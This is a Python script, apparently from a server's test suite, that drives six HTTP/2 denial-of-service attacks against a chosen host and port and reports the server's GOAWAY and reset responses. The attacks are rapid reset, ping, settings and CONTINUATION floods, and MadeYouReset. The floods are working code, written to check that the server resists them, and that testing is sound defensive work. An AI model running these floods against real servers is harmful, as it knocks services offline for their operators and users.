"""HTTP/2 attacks driven by the Python `h2` library (an implementation independent of the
server's hyper/h2 and of the hand-written frames in tests/it/h2_abuse.rs), over h2c with
prior knowledge, or with `tls` over TLS with ALPN `h2` (the test server's certificate is
self-signed: not verified).

    h2_attacks.py ATTACK HOST PORT SECONDS [tls]

ATTACK is one of:

- `rapid_reset`: HEADERS (GET /ticker) then RST_STREAM (CANCEL), 100 streams per write,
  as fast as the socket takes them, reading everything the server sends (CVE-2023-44487);
- `ping_flood`: 1,000 PINGs per write from a client that never reads (4 KiB receive
  buffer);
- `settings_flood`: 1,000 SETTINGS (`update_settings`, INITIAL_WINDOW_SIZE) per write
  from a client that never reads (4 KiB receive buffer);
- `continuation_flood`: `send_headers` of GET /ticker with a 4 MiB header value, which
  h2 itself splits into HEADERS + 256 CONTINUATION frames (16 KiB each), one stream
  after another, one frame per write, reading everything;
- `made_you_reset`: "MadeYouReset" (CVE-2025-8671): `send_headers` (GET /ticker), then
  a WINDOW_UPDATE of 2^31 - 1 on that stream, which overflows the server's send window
  so that the server resets the stream (FLOW_CONTROL_ERROR); h2 refuses to send such
  an increment, so that one frame is built by `hyperframe` (h2's own frame layer); 100
  streams per write, reading everything;
- `made_you_reset_headers`: the same with h2 alone (outbound header validation off):
  each request carries `connection: close`, malformed in HTTP/2, so that the server
  resets the stream (PROTOCOL_ERROR).

Runs until the server cuts the connection or SECONDS passed, then prints one JSON line:
`{"attack": ..., "sent": frames or streams sent, "cut_after": seconds or null,
"goaway": the GOAWAY error code or null, "goaway_debug": its debug data or null,
"server_resets": RST_STREAM frames received, "server_refused": how many of them were
REFUSED_STREAM}`.
"""

import functools
import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame

CANCEL = h2.errors.ErrorCodes.CANCEL


TLS = False


def connect(host, port, recv_buffer=None, **config_options):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if recv_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, recv_buffer)
    sock.connect((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if TLS:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname="localhost")
        if sock.selected_alpn_protocol() != "h2":
            raise SystemExit("the server did not select ALPN h2")
    config = h2.config.H2Configuration(
        client_side=True, header_encoding="utf-8", **config_options
    )
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def send(sock, data, deadline):
    """Writes `data`; False when the budget ran out while blocked."""
    left = deadline - time.monotonic()
    if left <= 0:
        return False
    sock.settimeout(left)
    try:
        sock.sendall(data)
    except socket.timeout:
        return False
    return True


HEADERS = [
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "localhost"),
    (":path", "/ticker"),
]


class Seen:
    """What the server sent: its GOAWAY (code and debug data) and RST_STREAM count."""

    def __init__(self, reading=True):
        self.goaway = None
        self.goaway_debug = None
        # None for a client that never reads.
        self.resets = 0 if reading else None
        self.refused = 0 if reading else None

    def receive(self, sock, conn, wait=0):
        """Reads whatever the server sent (waiting up to `wait` seconds for the first
        bytes), as a client would; raises ConnectionResetError once the server closed or
        sent GOAWAY."""
        while (TLS and sock.pending()) or select.select([sock], [], [], wait)[0]:
            wait = 0
            data = sock.recv(65536)
            if not data:
                raise ConnectionResetError("closed by the server")
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = int(event.error_code)
                    self.goaway_debug = (event.additional_data or b"").decode(
                        "utf-8", "replace"
                    )
                elif isinstance(event, h2.events.StreamReset):
                    self.resets += 1
                    if event.error_code == h2.errors.ErrorCodes.REFUSED_STREAM:
                        self.refused += 1
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(
                        event.flow_controlled_length, event.stream_id
                    )
        if self.goaway is not None:
            raise ConnectionResetError("GOAWAY")


CUT = (OSError, ssl.SSLError, h2.exceptions.ProtocolError)


def streams_in_batches(host, port, seconds, open_stream, **config_options):
    """100 streams per write, each `open_stream(conn, stream_id)`, reading everything.
    Like any h2 client, never more open streams than the server's
    SETTINGS_MAX_CONCURRENT_STREAMS (h2 refuses to open more): when they are all open,
    waits (10 ms at most) for the server's answers."""
    sock, conn = connect(host, port, **config_options)
    start = time.monotonic()
    deadline = start + seconds
    seen = Seen()
    sent, cut_after = 0, None
    try:
        while time.monotonic() < deadline:
            full = conn.open_outbound_streams >= conn.remote_settings.max_concurrent_streams
            seen.receive(sock, conn, wait=0.01 if full else 0)
            data = b""
            for _ in range(100):
                if (
                    conn.open_outbound_streams
                    >= conn.remote_settings.max_concurrent_streams
                ):
                    break
                stream = conn.get_next_available_stream_id()
                data += open_stream(conn, stream)
                sent += 1
            if data and not send(sock, data, deadline):
                break
    except CUT:
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, seen


def rapid_reset(host, port, seconds):
    def open_stream(conn, stream):
        conn.send_headers(stream, HEADERS, end_stream=True)
        conn.reset_stream(stream, error_code=CANCEL)
        return conn.data_to_send()

    return streams_in_batches(host, port, seconds, open_stream)


def made_you_reset(host, port, seconds):
    def open_stream(conn, stream):
        conn.send_headers(stream, HEADERS, end_stream=True)
        overflow = hyperframe.frame.WindowUpdateFrame(
            stream, window_increment=2**31 - 1
        )
        return conn.data_to_send() + overflow.serialize()

    return streams_in_batches(host, port, seconds, open_stream)


def made_you_reset_headers(host, port, seconds):
    def open_stream(conn, stream):
        conn.send_headers(stream, HEADERS + [("connection", "close")], end_stream=True)
        return conn.data_to_send()

    return streams_in_batches(
        host,
        port,
        seconds,
        open_stream,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
    )


def continuation_flood(host, port, seconds):
    sock, conn = connect(host, port)
    # hpack's pure-Python Huffman coder takes minutes for a value of a few MiB
    # (quadratic): send the value as a plain literal.
    conn.encoder.encode = functools.partial(conn.encoder.encode, huffman=False)
    value = "a" * (4 << 20)
    frame = 9 + conn.max_outbound_frame_size
    start = time.monotonic()
    deadline = start + seconds
    seen = Seen()
    sent, cut_after = 0, None
    try:
        while time.monotonic() < deadline:
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, HEADERS + [("x", value)], end_stream=True)
            data = conn.data_to_send()
            # One (full-size) frame per write, reading between writes.
            for offset in range(0, len(data), frame):
                seen.receive(sock, conn)
                if not send(sock, data[offset : offset + frame], deadline):
                    raise TimeoutError
                sent += 1
    except TimeoutError:
        pass
    except CUT:
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, seen


def ping_flood(host, port, seconds):
    sock, conn = connect(host, port, recv_buffer=4096)
    start = time.monotonic()
    deadline = start + seconds
    sent, cut_after = 0, None
    try:
        while time.monotonic() < deadline:
            for _ in range(1000):
                conn.ping(b"\x07" * 8)
                sent += 1
            if not send(sock, conn.data_to_send(), deadline):
                break
    except OSError:
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, Seen(reading=False)


def settings_flood(host, port, seconds):
    sock, conn = connect(host, port, recv_buffer=4096)
    start = time.monotonic()
    deadline = start + seconds
    sent, cut_after = 0, None
    window = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
    try:
        while time.monotonic() < deadline:
            for _ in range(1000):
                conn.update_settings({window: 65535})
                sent += 1
            if not send(sock, conn.data_to_send(), deadline):
                break
    except OSError:
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, Seen(reading=False)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "continuation_flood": continuation_flood,
    "made_you_reset": made_you_reset,
    "made_you_reset_headers": made_you_reset_headers,
}


def main():
    global TLS
    attack, host, port, seconds = sys.argv[1:5]
    TLS = sys.argv[5:6] == ["tls"]
    sent, cut_after, seen = ATTACKS[attack](host, int(port), float(seconds))
    print(
        json.dumps(
            {
                "attack": attack,
                "sent": sent,
                "cut_after": cut_after,
                "goaway": seen.goaway,
                "goaway_debug": seen.goaway_debug,
                "server_resets": seen.resets,
                "server_refused": seen.refused,
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
